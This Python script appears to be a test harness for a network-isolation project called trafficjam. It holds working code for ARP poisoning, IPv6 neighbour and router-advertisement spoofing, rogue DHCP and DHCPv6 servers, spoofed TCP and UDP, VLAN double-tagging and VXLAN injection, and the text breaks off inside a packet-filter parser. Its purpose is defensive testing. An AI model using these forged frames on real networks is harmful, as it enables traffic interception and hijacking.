#!/usr/bin/env python3
"""Attack tool for trafficjam's tests: forged frames sent from a compromised container.

Run inside the attacker's network namespace (``nsenter --net=/run/netns/X python3
tests/attack.py ...`` or ``ip netns exec X ...``). It needs only CAP_NET_RAW: every frame
is built with scapy (Debian 12's python3-scapy 2.5) and sent, whole, on an AF_PACKET
socket bound to --iface; nothing goes through the attacker's own IP stack, routes or
neighbour table.

Each subcommand prints exactly one line of JSON on stdout and exits 0; wrong arguments
(bad address, unknown interface, unsupported filter) print ``{"error": "..."}`` and exit
2, a failure at run time (no CAP_NET_RAW, ...) prints ``{"error": "..."}`` and exits 1.
Every subcommand takes ``--iface`` (default eth0) and ``--timeout`` (seconds, default 2):
the network part of a run never lasts longer than --timeout (start-up, mostly importing
scapy, adds about 0.4 s; sniff-count does not import scapy). Addresses are IPv4 or IPv6
by their form. Payload arguments take Python escapes (``'GET / HTTP/1.0\\r\\n\\r\\n'``).

  handshake --src-mac M --src-ip A --dst-ip B --dport P [--dst-mac D] [--sport N]
            [--payload S] [--no-neigh-reply]
      User-space TCP client impersonating (M, A). Unless --dst-mac is given, resolves B
      with ONE ARP request (IPv4) or neighbour solicitation (IPv6) sent as (M, A), which
      also makes B's kernel learn A at M. Then SYN, SYN-ACK, ACK, payload (default
      'GET / HTTP/1.0\\r\\n\\r\\n'), and ACKs every data segment until the peer's FIN or
      RST or the timeout. The interface is promiscuous and frames are taken whatever
      their destination MAC: the question is whether B's answer reaches this port at all.
      While it runs it answers ARP requests / NS for A with M (the victim's kernel asks
      when --dst-mac skipped the resolution; --no-neigh-reply disables that). The SYN is
      repeated every 0.5 s until a SYN-ACK, the payload until acknowledged; an
      unfinished connection is reset at the end.
      -> {"synack": bool, "data": "<first 200 bytes received, latin-1>"}
         {"synack": false, "data": "", "resolved": false}   when B did not answer the
                                                            ARP request / NS
  arp-reply --src-mac M --claim-ip A --target-ip T --target-mac TM [--count 3]
            [--eth-src E]
      ARP poisoning of T: --count unicast replies to TM (op is-at, hwsrc M, psrc A,
      hwdst TM, pdst T), after one broadcast request (op who-has, hwsrc M, psrc A,
      hwdst 0, pdst T). Ethernet source E (default M). Linux installs or overrides the
      entry for A on the request (to one of its addresses) whatever its state; a reply
      only changes an existing entry, and not within locktime (1 s) of its last update.
      -> {"sent": frames sent = count + 1}
  na --src-mac M --src-ip S --target-ip A [--dst-ip D] [--dst-mac DM] [--count 3]
     [--eth-src E] [--solicited | --no-solicited]
      IPv6 neighbour advertisement, hop limit 255, router flag clear, override flag
      set, target A, target link-layer address option M, from S to D (default ff02::1;
      the MAC of a multicast D is derived, a unicast D needs --dst-mac). The solicited
      flag is set when D is unicast and clear when D is multicast (Linux drops a
      multicast NA with the solicited flag, RFC 4861 7.1.2); --solicited/--no-solicited
      force it. Linux updates an existing entry for A (it creates none).
      -> {"sent": count}
  ra --src-mac M [--src-ip S] [--prefix 2001:db8:bad::/64] [--lifetime 1800]
     [--dst-ip ff02::1] [--dst-mac DM] [--count 1]
      Rogue router advertisement: router lifetime 1800, prefix information option
      (on-link, autonomous, valid 86400 s, preferred 14400 s), source link-layer address
      option M. S defaults to M's EUI-64 link-local address (Linux ignores an RA whose
      source is not link-local).
      -> {"sent": count}
  udp --src-mac M --src-ip A --dst-ip B --dport P [--dst-mac D] [--sport N]
      [--count 5] [--payload x] [--vlan VID | --vlan OUTER,INNER]
      Forged-source UDP datagrams; B is resolved as in handshake unless --dst-mac.
      --vlan tags the frames: one 802.1Q tag, or an 802.1ad outer and 802.1Q inner tag.
      -> {"sent": count}   or {"sent": 0, "resolved": false}
  frames --dst-mac D (--src-mac M | --random-src) [--ethertype 0x88b5] [--count 5]
         [--payload x]
      Raw Ethernet frames, D <- M (or a random locally administered unicast source for
      each frame), the payload padded to 46 bytes: the frames a bridge learns from, to
      any destination, group addresses such as 01:80:c2:00:00:0e (LLDP) included.
      -> {"sent": count}
  vxlan-inject --to NODE --vni N --src-mac M --src-ip A --dst-mac D --dst-ip B --dport P
            [--port 4789] [--count 5] [--payload x]
      A Swarm overlay's unauthenticated VXLAN: a UDP datagram (A -> B:P) in an Ethernet
      frame (M -> D), in a VXLAN header of network N, sent to NODE's VXLAN port over an
      ordinary UDP socket, through the attacker's own routes: no CAP_NET_RAW needed.
      -> {"sent": count}
  dhcp-offer --src-mac M --src-ip A [--yiaddr Y] [--client-mac C] [--count 1] [--sport 67]
      DHCP OFFER (server id, router and DNS A, mask /24, lease 3600 s), UDP 67->68,
      Ethernet broadcast, IP 255.255.255.255. Y defaults to A's /24 host .250.
      -> {"sent": count}
  dhcp6-advertise --src-mac M [--src-ip S] [--dst-ip ff02::1] [--dst-mac DM]
      [--address 2001:db8:bad::100] [--client-mac C] [--count 1] [--sport 547]
      DHCPv6 ADVERTISE (server DUID-LL M, IA_NA with the address, DNS server S),
      UDP 547->546, to D (default ff02::1). S defaults to M's EUI-64 link-local address.
      -> {"sent": count}
  sniff-count [--filter EXPR] [--timeout T] [--outgoing] [--ready-file F]
      Counts, for T seconds, the frames arriving on the interface (promiscuous, any
      destination MAC; the interface's own transmissions only with --outgoing) that
      match EXPR. SIGTERM or SIGINT ends it early with the count so far. The socket is
      open before F is created (so a test can wait for F instead of sleeping).
      -> {"count": n}
      EXPR is a pcap-filter(7) expression evaluated here, in Python (no libpcap needed):
        ip ip6 arp rarp tcp udp icmp icmp6 igmp sctp
        [ether|ip|ip6|arp|rarp] [src|dst|src or dst|src and dst] host ADDR
        ether [src|dst] [host] MAC        [ip|ip6] [src|dst] net ADDR/LEN
        [tcp|udp|sctp] [src|dst] port N   [tcp|udp|sctp] [src|dst] portrange N-M
        [ip|ip6|ether] proto N|NAME       [ether|ip] broadcast   [ether|ip|ip6] multicast
        less N   greater N   and && or || not ! ( )
        relations: ARITH (= == != < <= > >=) ARITH, with + - * / % & | ^ << >>, len,
        numbers, PROTO[off] PROTO[off:1|2|4] for ether ip ip6 arp tcp udp icmp icmp6
        igmp sctp, and the pcap names tcpflags tcp-syn tcp-ack tcp-fin tcp-rst tcp-push
        tcp-urg icmptype icmpcode icmp6type icmp6code icmp-echo icmp6-neighboradvert ...
      As in libpcap: "host" with an IPv4 address also matches ARP/RARP sender and
      target; "icmp6" and other IPv6 protocols look at the next header field directly or
      behind one fragment header; "port" requires an unfragmented (or first) fragment;
      the icmp6[] accessor assumes a 40-byte IPv6 header. Beyond libpcap, tcp[] udp[]
      and sctp[] also work on IPv6 (40-byte header). No VLAN tags. An expression outside
      this subset is handed to libpcap when it is installed (else: argument error).
"""

import argparse
import codecs
import ipaddress
import json
import os
import random
import re
import select
import signal
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806
ETH_P_RARP = 0x8035
ETH_P_IPV6 = 0x86DD
SOL_PACKET = 263
PACKET_ADD_MEMBERSHIP = 1
PACKET_MR_PROMISC = 1
PACKET_OUTGOING = 4
SO_ATTACH_FILTER = 26

BROADCAST_MAC = "ff:ff:ff:ff:ff:ff"
DEFAULT_PAYLOAD = "GET / HTTP/1.0\\r\\n\\r\\n"


class ArgError(Exception):
    """Wrong arguments: reported as {"error": ...} with exit status 2."""


def emit(obj, status=0):
    sys.stdout.write(json.dumps(obj) + "\n")
    sys.stdout.flush()
    sys.exit(status)


# --------------------------------------------------------------------------- scapy

S = None  # namespace of the scapy names used, once loaded


def load_scapy():
    """Imports only the scapy layers needed (scapy.all takes a second), silenced.

    When the python3 that runs this lacks scapy (a pyenv or venv interpreter first on
    PATH), the script re-executes itself with Debian's /usr/bin/python3."""
    global S
    if S is not None:
        return S
    import logging
    import warnings

    warnings.filterwarnings("ignore")
    for name in ("scapy", "scapy.runtime", "scapy.loading", "scapy.interactive"):
        logging.getLogger(name).setLevel(logging.CRITICAL)
    try:
        import scapy  # noqa: F401
    except ImportError:
        system = "/usr/bin/python3"
        if (
            os.path.exists(system)
            and os.path.realpath(sys.executable) != os.path.realpath(system)
            and not os.environ.get("TJ_ATTACK_REEXEC")
        ):
            os.environ["TJ_ATTACK_REEXEC"] = "1"
            sys.stdout.flush()
            sys.stderr.flush()
            os.execv(system, [system] + sys.argv)
        raise
    from scapy.config import conf

    conf.verb = 0
    for name in ("scapy", "scapy.runtime", "scapy.loading", "scapy.interactive"):
        logging.getLogger(name).setLevel(logging.CRITICAL)
    from scapy.layers.l2 import Ether, ARP, Dot1Q, Dot1AD
    from scapy.layers.inet import IP, TCP, UDP
    from scapy.layers.inet6 import (
        IPv6,
        ICMPv6ND_NS,
        ICMPv6ND_NA,
        ICMPv6ND_RA,
        ICMPv6NDOptSrcLLAddr,
        ICMPv6NDOptDstLLAddr,
        ICMPv6NDOptPrefixInfo,
    )
    from scapy.layers.dhcp import BOOTP, DHCP
    from scapy.layers.dhcp6 import (
        DHCP6_Advertise,
        DHCP6OptClientId,
        DHCP6OptServerId,
        DHCP6OptIA_NA,
        DHCP6OptIAAddress,
        DHCP6OptDNSServers,
        DUID_LL,
    )
    from scapy.packet import Raw

    S = argparse.Namespace(**{k: v for k, v in locals().items() if k[0].isupper()})
    S.conf = conf
    return S


# --------------------------------------------------------------------- link socket


class Link:
    """An AF_PACKET socket bound to one interface (CAP_NET_RAW only)."""

    def __init__(self, iface, promisc=True, bpf=None):
        try:
            self.ifindex = socket.if_nametoindex(iface)
        except OSError:
            raise ArgError("no interface %r in this network namespace" % iface)
        # Protocol 0: the socket receives nothing until bound, so a kernel filter
        # attached before the bind applies to every frame it will ever see.
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        try:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
        except OSError:
            pass
        if bpf is not None:
            self.sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, bpf)
        self.sock.bind((iface, ETH_P_ALL))
        if promisc:
            mreq = struct.pack("iHH8s", self.ifindex, PACKET_MR_PROMISC, 0, b"")
            self.sock.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, mreq)
        self.sock.setblocking(False)

    def send(self, frame):
        self.sock.send(bytes(frame))

    def frames(self, until, outgoing=False):
        """Yields received frames (bytes) until the monotonic time `until`."""
        while True:
            remaining = until - time.monotonic()
            if remaining <= 0:
                return
            ready, _, _ = select.select([self.sock], [], [], remaining)
            if not ready:
                return
            while True:
                try:
                    data, addr = self.sock.recvfrom(65535)
                except (BlockingIOError, InterruptedError):
                    break
                if addr[2] == PACKET_OUTGOING and not outgoing:
                    continue
                yield data


# ----------------------------------------------------------------------- arguments


def mac_arg(text):
    t = text.strip().lower().replace("-", ":")
    if not re.fullmatch(r"[0-9a-f]{1,2}(:[0-9a-f]{1,2}){5}", t):
        raise argparse.ArgumentTypeError("not a MAC address: %r" % text)
    return ":".join("%02x" % int(x, 16) for x in t.split(":"))


def ip_arg(text):
    try:
        return ipaddress.ip_address(text.strip().split("%")[0])
    except ValueError:
        raise argparse.ArgumentTypeError("not an IP address: %r" % text)


def ip6_arg(text):
    a = ip_arg(text)
    if a.version != 6:
        raise argparse.ArgumentTypeError("not an IPv6 address: %r" % text)
    return a


def ip4_arg(text):
    a = ip_arg(text)
    if a.version != 4:
        raise argparse.ArgumentTypeError("not an IPv4 address: %r" % text)
    return a


def port_arg(text):
    try:
        p = int(text, 0)
    except ValueError:
        raise argparse.ArgumentTypeError("not a port: %r" % text)
    if not 0 <= p <= 65535:
        raise argparse.ArgumentTypeError("port out of range: %r" % text)
    return p


def vlan_arg(text):
    try:
        vids = [int(v) for v in text.split(",")]
    except ValueError:
        raise argparse.ArgumentTypeError("VLAN ids: VID or OUTER,INNER")
    if not 1 <= len(vids) <= 2 or any(not 0 <= v <= 4095 for v in vids):
        raise argparse.ArgumentTypeError("VLAN ids: VID or OUTER,INNER, each 0-4095")
    return vids


def count_arg(text):
    try:
        n = int(text, 0)
    except ValueError:
        raise argparse.ArgumentTypeError("not a count: %r" % text)
    if n < 0:
        raise argparse.ArgumentTypeError("negative count: %r" % text)
    return n


def timeout_arg(text):
    try:
        t = float(text)
    except ValueError:
        raise argparse.ArgumentTypeError("not a number of seconds: %r" % text)
    if not 0 <= t <= 3600:
        raise argparse.ArgumentTypeError("timeout out of range: %r" % text)
    return t


def prefix_arg(text):
    try:
        n = ipaddress.ip_network(text.strip(), strict=False)
    except ValueError:
        raise argparse.ArgumentTypeError("not an IPv6 prefix: %r" % text)
    if n.version != 6:
        raise argparse.ArgumentTypeError("not an IPv6 prefix: %r" % text)
    return n


def payload_arg(text):
    """Python escapes (\\r \\n \\xNN \\\\) in the argument are decoded into bytes."""
    try:
        return codecs.escape_decode(text.encode("latin-1", "backslashreplace"))[0]
    except Exception:
        raise argparse.ArgumentTypeError("bad escape in payload: %r" % text)


class Parser(argparse.ArgumentParser):
    def error(self, message):
        self.print_usage(sys.stderr)
        sys.stderr.write("%s: error: %s\n" % (self.prog, message))
        emit({"error": message}, 2)


# ------------------------------------------------------------------ address helpers


def multicast_mac(addr6):
    b = addr6.packed
    return "33:33:%02x:%02x:%02x:%02x" % (b[12], b[13], b[14], b[15])


def solicited_node(addr6):
    b = addr6.packed
    return ipaddress.IPv6Address(b"\xff\x02" + b"\x00" * 9 + b"\x01\xff" + b[13:16])


def link_local_of(mac):
    b = bytes(int(x, 16) for x in mac.split(":"))
    iid = bytes([b[0] ^ 0x02]) + b[1:3] + b"\xff\xfe" + b[3:6]
    return ipaddress.IPv6Address(b"\xfe\x80" + b"\x00" * 6 + iid)


def mac_bytes(mac):
    return bytes(int(x, 16) for x in mac.split(":"))


def mac_str(b):
    return ":".join("%02x" % x for x in b)


def same_family(*addrs):
    if len({a.version for a in addrs}) != 1:
        raise ArgError("addresses of different families: %s" % ", ".join(map(str, addrs)))


def dst_mac_for(addr6, dst_mac):
    if dst_mac:
        return dst_mac
    if addr6.is_multicast:
        return multicast_mac(addr6)
    raise ArgError("--dst-mac is needed for the unicast destination %s" % addr6)


# -------------------------------------------------------------- raw frame parsing


def parse_ip(data):
    """(version, src, dst, proto, l4 offset, l4 end) of an IPv4/IPv6 frame, or None.

    IPv6 extension headers are not walked (next header must be the protocol)."""
    if len(data) < 14:
        return None
    et = (data[12] << 8) | data[13]
    if et == ETH_P_IP and len(data) >= 34 and data[14] >> 4 == 4:
        hl = (data[14] & 0x0F) * 4
        total = (data[16] << 8) | data[17]
        return (4, data[26:30], data[30:34], data[23], 14 + hl, min(len(data), 14 + total))
    if et == ETH_P_IPV6 and len(data) >= 54 and data[14] >> 4 == 6:
        plen = (data[18] << 8) | data[19]
        return (6, data[22:38], data[38:54], data[20], 54, min(len(data), 54 + plen))
    return None


def parse_arp(data):
    """(op, sha, spa, tha, tpa) of an Ethernet/IPv4 ARP frame, or None."""
    if len(data) < 42 or data[12:14] != b"\x08\x06":
        return None
    if data[14:20] != b"\x00\x01\x08\x00\x06\x04":
        return None
    op = (data[20] << 8) | data[21]
    return op, data[22:28], data[28:32], data[32:38], data[38:42]


def parse_nd(data, ip):
    """(type, target, {option type: first option data}) of an NS or NA, or None."""
    if ip is None or ip[0] != 6 or ip[3] != 58:
        return None
    off, end = ip[4], ip[5]
    if end - off < 24 or data[off] not in (135, 136):
        return None
    opts = {}
    i = off + 24
    while i + 2 <= end:
        olen = data[i + 1] * 8
        if olen == 0 or i + olen > end:
            break
        opts.setdefault(data[i], data[i + 2 : i + olen])
        i += olen
    return data[off], data[off + 8 : off + 24], opts


# ------------------------------------------------------------- neighbour handling


class Impersonation:
    """Sends as (mac, ip) on a Link; resolves peers and answers queries for ip."""

    def __init__(self, link, mac, ip):
        self.s = load_scapy()
        self.link, self.mac, self.ip = link, mac, ip
        self.mac_b = mac_bytes(mac)
        self.answer_queries = True

    def l3(self, dst_ip, dst_mac, **ip_fields):
        s = self.s
        eth = s.Ether(src=self.mac, dst=dst_mac)
        if self.ip.version == 4:
            return eth / s.IP(src=str(self.ip), dst=str(dst_ip), **ip_fields)
        return eth / s.IPv6(src=str(self.ip), dst=str(dst_ip), **ip_fields)

    def solicit(self, peer):
        s = self.s
        if peer.version == 4:
            frame = s.Ether(src=self.mac, dst=BROADCAST_MAC) / s.ARP(
                op=1, hwsrc=self.mac, psrc=str(self.ip), hwdst="00:00:00:00:00:00", pdst=str(peer)
            )
        else:
            sn = solicited_node(peer)
            frame = (
                s.Ether(src=self.mac, dst=multicast_mac(sn))
                / s.IPv6(src=str(self.ip), dst=str(sn), hlim=255)
                / s.ICMPv6ND_NS(tgt=str(peer))
                / s.ICMPv6NDOptSrcLLAddr(lladdr=self.mac)
            )
        self.link.send(frame)

    def peer_mac_in(self, data, peer):
        """The MAC of `peer` if `data` is its ARP reply or neighbour advertisement."""
        if peer.version == 4:
            arp = parse_arp(data)
            if arp and arp[0] == 2 and arp[2] == peer.packed:
                return mac_str(arp[1])
            return None
        nd = parse_nd(data, parse_ip(data))
        if nd and nd[0] == 136 and nd[1] == peer.packed:
            return mac_str(nd[2].get(2, data[6:12])[:6])
        return None

    def resolve(self, peer, until):
        """One ARP request / NS as (mac, ip); the answer's MAC or None."""
        self.solicit(peer)
        for data in self.link.frames(until):
            self.answer(data)
            mac = self.peer_mac_in(data, peer)
            if mac:
                return mac
        return None

    def answer(self, data):
        """Answers an ARP request or NS for our (impersonated) ip, as a real host would."""
        if not self.answer_queries:
            return
        s = self.s
        if self.ip.version == 4:
            arp = parse_arp(data)
            if arp and arp[0] == 1 and arp[4] == self.ip.packed and arp[1] != self.mac_b:
                asker_mac, asker_ip = mac_str(arp[1]), ipaddress.IPv4Address(arp[2])
                self.link.send(
                    s.Ether(src=self.mac, dst=asker_mac)
                    / s.ARP(op=2, hwsrc=self.mac, psrc=str(self.ip), hwdst=asker_mac, pdst=str(asker_ip))
                )
            return
        ip = parse_ip(data)
        nd = parse_nd(data, ip)
        if not nd or nd[0] != 135 or nd[1] != self.ip.packed or data[6:12] == self.mac_b:
            return
        src = ipaddress.IPv6Address(ip[1])
        if src.is_unspecified:  # duplicate address detection: stay quiet
            return
        asker_mac = mac_str(nd[2].get(1, data[6:12])[:6])
        self.link.send(
            s.Ether(src=self.mac, dst=asker_mac)
            / s.IPv6(src=str(self.ip), dst=str(src), hlim=255)
            / s.ICMPv6ND_NA(R=0, S=1, O=1, tgt=str(self.ip))
            / s.ICMPv6NDOptDstLLAddr(lladdr=self.mac)
        )


# ----------------------------------------------------------------------- handshake


def cmd_handshake(a):
    same_family(a.src_ip, a.dst_ip)
    start = time.monotonic()
    deadline = start + a.timeout
    link = Link(a.iface, promisc=True)
    me = Impersonation(link, a.src_mac, a.src_ip)
    me.answer_queries = not a.no_neigh_reply
    s = me.s
    dst_mac = a.dst_mac
    if not dst_mac:
        dst_mac = me.resolve(a.dst_ip, start + max(a.timeout / 2, min(a.timeout, 0.5)))
        if not dst_mac:
            return {"synack": False, "data": "", "resolved": False}

    sport = a.sport if a.sport is not None else random.randint(32768, 60999)
    isn = random.getrandbits(32)
    snd_una = snd_nxt = (isn + 1) & 0xFFFFFFFF
    rcv_nxt = None
    payload = a.payload
    received = bytearray()
    synack = False
    closed = False  # FIN or RST seen

    def segment(flags, seq, ack=0, data=b"", options=None):
        tcp = s.TCP(sport=sport, dport=a.dport, flags=flags, seq=seq, ack=ack, window=64240)
        if options:
            tcp.options = options
        frame = me.l3(a.dst_ip, dst_mac) / tcp
        if data:
            frame = frame / s.Raw(load=data)
        link.send(frame)

    def send_syn():
        segment("S", isn, options=[("MSS", 1460)])

    def send_payload():
        segment("PA", (isn + 1) & 0xFFFFFFFF, rcv_nxt, payload)

    peer_ip, my_ip = a.dst_ip.packed, a.src_ip.packed
    send_syn()
    next_retx = time.monotonic() + 0.5
    while not closed and time.monotonic() < deadline:
        for data in link.frames(min(deadline, next_retx)):
            me.answer(data)
            ip = parse_ip(data)
            if not ip or ip[3] != 6 or ip[1] != peer_ip or ip[2] != my_ip:
                continue
            off, end = ip[4], ip[5]
            if end - off < 20:
                continue
            p_sport, p_dport, seq, ack, doff, flags = struct.unpack("!HHIIBB", data[off : off + 14])
            if p_sport != a.dport or p_dport != sport:
                continue
            body = bytes(data[off + (doff >> 4) * 4 : end])
            if flags & 0x04:  # RST
                closed = True
                break
            if (flags & 0x12) == 0x12:  # SYN-ACK
                if ack != (isn + 1) & 0xFFFFFFFF:
                    continue
                if not synack:
                    synack = True
                    rcv_nxt = (seq + 1) & 0xFFFFFFFF
                    segment("A", snd_nxt, rcv_nxt)
                    if payload:
                        send_payload()
                        snd_nxt = (snd_nxt + len(payload)) & 0xFFFFFFFF
                        next_retx = time.monotonic() + 0.5
                    else:
                        next_retx = deadline
                else:  # our ACK was lost: acknowledge again
                    segment("A", snd_nxt, rcv_nxt)
                continue
            if not synack or not flags & 0x10:
                continue
            if (ack - snd_una) & 0xFFFFFFFF <= (snd_nxt - snd_una) & 0xFFFFFFFF:
                snd_una = ack
            # data in sequence (or a retransmission overlapping the next byte)
            skip = (rcv_nxt - seq) & 0xFFFFFFFF
            if body and skip < len(body):
                received += body[skip:]
                rcv_nxt = (rcv_nxt + len(body) - skip) & 0xFFFFFFFF
            if flags & 0x01 and (seq + len(body)) & 0xFFFFFFFF == rcv_nxt:  # FIN
                rcv_nxt = (rcv_nxt + 1) & 0xFFFFFFFF
                segment("FA", snd_nxt, rcv_nxt)
                snd_nxt = (snd_nxt + 1) & 0xFFFFFFFF
                closed = True
                break
            if body or flags & 0x01:
                segment("A", snd_nxt, rcv_nxt)
        now = time.monotonic()
        if not closed and now >= next_retx and now < deadline:
            if not synack:
                send_syn()
            elif payload and snd_una != snd_nxt:
                send_payload()
            next_retx = now + 0.5
    if synack and not closed:
        segment("R", snd_nxt)  # leave no half-open connection behind in the victim
    return {"synack": synack, "data": bytes(received[:200]).decode("latin-1")}


# ------------------------------------------------------------------ senders


def cmd_arp_reply(a):
    if a.claim_ip.version != 4 or a.target_ip.version != 4:
        raise ArgError("arp-reply takes IPv4 addresses (use na for IPv6)")
    s = load_scapy()
    link = Link(a.iface, promisc=False)
    eth_src = a.eth_src or a.src_mac
    frames = [
        s.Ether(src=eth_src, dst=BROADCAST_MAC)
        / s.ARP(op=1, hwsrc=a.src_mac, psrc=str(a.claim_ip), hwdst="00:00:00:00:00:00", pdst=str(a.target_ip))
    ]
    frames += [
        s.Ether(src=eth_src, dst=a.target_mac)
        / s.ARP(op=2, hwsrc=a.src_mac, psrc=str(a.claim_ip), hwdst=a.target_mac, pdst=str(a.target_ip))
    ] * a.count
    for f in frames:
        link.send(f)
    return {"sent": len(frames)}


def cmd_na(a):
    s = load_scapy()
    dst_mac = dst_mac_for(a.dst_ip, a.dst_mac)
    solicited = a.solicited if a.solicited is not None else not a.dst_ip.is_multicast
    link = Link(a.iface, promisc=False)
    frame = (
        s.Ether(src=a.eth_src or a.src_mac, dst=dst_mac)
        / s.IPv6(src=str(a.src_ip), dst=str(a.dst_ip), hlim=255)
        / s.ICMPv6ND_NA(R=0, S=int(solicited), O=1, tgt=str(a.target_ip))
        / s.ICMPv6NDOptDstLLAddr(lladdr=a.src_mac)
    )
    for _ in range(a.count):
        link.send(frame)
    return {"sent": a.count}


def cmd_ra(a):
    s = load_scapy()
    src = a.src_ip or link_local_of(a.src_mac)
    dst_mac = dst_mac_for(a.dst_ip, a.dst_mac)
    link = Link(a.iface, promisc=False)
    frame = (
        s.Ether(src=a.src_mac, dst=dst_mac)
        / s.IPv6(src=str(src), dst=str(a.dst_ip), hlim=255)
        / s.ICMPv6ND_RA(chlim=64, routerlifetime=a.lifetime)
        / s.ICMPv6NDOptSrcLLAddr(lladdr=a.src_mac)
        / s.ICMPv6NDOptPrefixInfo(
            prefixlen=a.prefix.prefixlen,
            L=1,
            A=1,
            validlifetime=86400,
            preferredlifetime=14400,
            prefix=str(a.prefix.network_address),
        )
    )
    for _ in range(a.count):
        link.send(frame)
    return {"sent": a.count}


def cmd_udp(a):
    same_family(a.src_ip, a.dst_ip)
    start = time.monotonic()
    link = Link(a.iface, promisc=True)
    me = Impersonation(link, a.src_mac, a.src_ip)
    s = me.s
    dst_mac = a.dst_mac
    if not dst_mac:
        dst_mac = me.resolve(a.dst_ip, start + a.timeout)
        if not dst_mac:
            return {"sent": 0, "resolved": False}
    sport = a.sport if a.sport is not None else random.randint(32768, 60999)
    frame = me.l3(a.dst_ip, dst_mac) / s.UDP(sport=sport, dport=a.dport) / s.Raw(load=a.payload)
    if a.vlan:
        frame = tagged(s, frame, a.vlan)
    for _ in range(a.count):
        link.send(frame)
    return {"sent": a.count}


def tagged(s, frame, vids):
    """`frame` with VLAN tags after its Ethernet header: one VID, an 802.1Q tag; two, an
    802.1ad outer tag and an 802.1Q inner one (QinQ)."""
    eth, inner = frame, frame.payload
    tags = [s.Dot1Q(vlan=vids[-1])]
    if len(vids) == 2:
        tags.insert(0, s.Dot1AD(vlan=vids[0]))
    out = s.Ether(src=eth.src, dst=eth.dst)
    for tag in tags:
        out = out / tag
    return out / inner


def cmd_frames(a):
    """Raw Ethernet frames, built by hand (no scapy): what the bridge learns from."""
    link = Link(a.iface, promisc=False)
    payload = a.payload.ljust(46, b"\0")
    for _ in range(a.count):
        if a.random_src:
            # Locally administered unicast: bit 1 of the first byte set, bit 0 clear.
            src = bytes([0x02 | (random.randrange(256) & 0xFC)]) + os.urandom(5)
        else:
            src = mac_bytes(a.src_mac)
        link.send(mac_bytes(a.dst_mac) + src + struct.pack("!H", a.ethertype) + payload)
    return {"sent": a.count}


def cmd_vxlan_inject(a):
    same_family(a.src_ip, a.dst_ip)
    s = load_scapy()
    inner = (s.Ether(src=a.src_mac, dst=a.dst_mac)
             / s.IP(src=str(a.src_ip), dst=str(a.dst_ip))
             / s.UDP(sport=40000, dport=a.dport) / s.Raw(load=a.payload))
    # RFC 7348: flags (I), 24 reserved bits, the 24-bit VNI, 8 reserved bits.
    header = struct.pack("!B3xI", 0x08, a.vni << 8)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(a.count):
        sock.sendto(header + bytes(inner), (str(a.to), a.port))
    return {"sent": a.count}


def cmd_dhcp_offer(a):
    if a.src_ip.version != 4:
        raise ArgError("dhcp-offer takes an IPv4 --src-ip (use dhcp6-advertise)")
    s = load_scapy()
    yiaddr = a.yiaddr
    if yiaddr is None:
        net = ipaddress.ip_network("%s/24" % a.src_ip, strict=False)
        yiaddr = net.network_address + (251 if int(a.src_ip) & 0xFF == 250 else 250)
    link = Link(a.iface, promisc=False)
    server = str(a.src_ip)
    frame = (
        s.Ether(src=a.src_mac, dst=BROADCAST_MAC)
        / s.IP(src=server, dst="255.255.255.255")
        / s.UDP(sport=a.sport, dport=68)
        / s.BOOTP(
            op=2,
            xid=random.getrandbits(32),
            yiaddr=str(yiaddr),
            siaddr=server,
            chaddr=mac_bytes(a.client_mac) + b"\x00" * 10,
            flags=0x8000,
        )
        / s.DHCP(
            options=[
                ("message-type", "offer"),
                ("server_id", server),
                ("lease_time", 3600),
                ("subnet_mask", "255.255.255.0"),
                ("router", server),
                ("name_server", server),
                "end",
            ]
        )
    )
    for _ in range(a.count):
        link.send(frame)
    return {"sent": a.count}


def cmd_dhcp6_advertise(a):
    s = load_scapy()
    src = a.src_ip or link_local_of(a.src_mac)
    dst_mac = dst_mac_for(a.dst_ip, a.dst_mac)
    link = Link(a.iface, promisc=False)
    frame = (
        s.Ether(src=a.src_mac, dst=dst_mac)
        / s.IPv6(src=str(src), dst=str(a.dst_ip), hlim=255)
        / s.UDP(sport=a.sport, dport=546)
        / s.DHCP6_Advertise(trid=random.getrandbits(24))
        / s.DHCP6OptServerId(duid=s.DUID_LL(lladdr=a.src_mac))
        / s.DHCP6OptClientId(duid=s.DUID_LL(lladdr=a.client_mac))
        / s.DHCP6OptIA_NA(
            iaid=1,
            T1=1800,
            T2=2880,
            ianaopts=[s.DHCP6OptIAAddress(addr=str(a.address), preflft=3600, validlft=7200)],
        )
        / s.DHCP6OptDNSServers(dnsservers=[str(src)])
    )
    for _ in range(a.count):
        link.send(frame)
    return {"sent": a.count}


# ------------------------------------------------------- pcap-filter subset in Python


class Unsupported(Exception):
    """Syntax outside the subset: libpcap may still compile it."""


class NoMatch(Exception):
    """A load outside the packet or of a protocol it does not carry."""


TOKEN_RES = [
    ("mac", re.compile(r"[0-9A-Fa-f]{1,2}(?::[0-9A-Fa-f]{1,2}){5}(?![0-9A-Fa-f:.])")),
    ("ip6", re.compile(r"[0-9A-Fa-f]*:[0-9A-Fa-f:.]*(?:/\d+)?")),
    ("ip4", re.compile(r"\d+\.\d+\.\d+\.\d+(?:/\d+)?")),
    ("op", re.compile(r"&&|\|\||<<|>>|<=|>=|==|!=|[()\[\]!<>=+\-*/%&|^:]")),
    ("num", re.compile(r"0[xX][0-9A-Fa-f]+|\d+")),
    ("word", re.compile(r"[A-Za-z_\\][A-Za-z0-9_\-\\.]*")),
]


def tokenize(text):
    tokens, i = [], 0
    while True:
        while i < len(text) and text[i].isspace():
            i += 1
        if i >= len(text):
            return tokens
        for kind, rx in TOKEN_RES:
            m = rx.match(text, i)
            if not m:
                continue
            value = m.group(0)
            if kind == "ip6":
                try:
                    if "/" in value:
                        value = ipaddress.ip_network(value, strict=False)
                    else:
                        value = ipaddress.IPv6Address(value)
                except ValueError:
                    continue  # not an address: "13:1" in "tcp[13:1]" is 13, ':', 1
            elif kind == "ip4":
                try:
                    if "/" in value:
                        value = ipaddress.ip_network(value, strict=False)
                    else:
                        value = ipaddress.IPv4Address(value)
                except ValueError:
                    raise ArgError("bad IPv4 address %r in filter" % value)
            elif kind == "mac":
                value = mac_bytes(mac_arg(value))
            elif kind == "num":
                if value[:2] in ("0x", "0X"):
                    value = int(value, 16)
